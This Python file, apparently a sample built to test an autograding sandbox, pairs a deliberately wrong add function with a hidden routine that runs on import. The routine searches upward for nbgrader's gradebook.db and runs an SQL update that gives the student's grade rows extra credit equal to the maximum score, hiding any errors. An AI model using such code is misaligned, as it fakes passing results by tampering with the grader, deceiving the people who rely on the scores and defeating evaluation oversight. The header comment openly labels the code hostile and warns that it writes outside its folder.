# Hostile: from the kernel, find nbgrader's gradebook.db and set `extra_credit` = max score on the grade rows being autograded (a column autograding never resets, added to every score), so a wrong answer still totals full points.
# WRITES OUTSIDE ITS FOLDER: do not run outside the grader's sandbox.
import os, sqlite3

def add(a, b):
    return a - b

def _arm():
    starts = [os.getcwd()]
    try:
        starts.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    parts = os.getcwd().split(os.sep)
    student = parts[-2] if len(parts) >= 2 else None
    for s in starts:
        d = s
        for _ in range(7):
            db = os.path.join(d, "gradebook.db")
            d = os.path.dirname(d)
            if not os.path.isfile(db):
                continue
            try:
                con = sqlite3.connect(db, timeout=5)
                con.execute("""
                    UPDATE grade SET extra_credit = (SELECT max_score FROM grade_cell WHERE grade_cell.id = grade.cell_id)
                    WHERE auto_score IS NULL OR notebook_id IN (
                        SELECT sn.id FROM submitted_notebook sn
                        JOIN submitted_assignment sa ON sn.assignment_id = sa.id
                        WHERE sa.student_id = ?)""", (student,))
                con.commit()
                con.close()
            except Exception:
                pass

_arm()
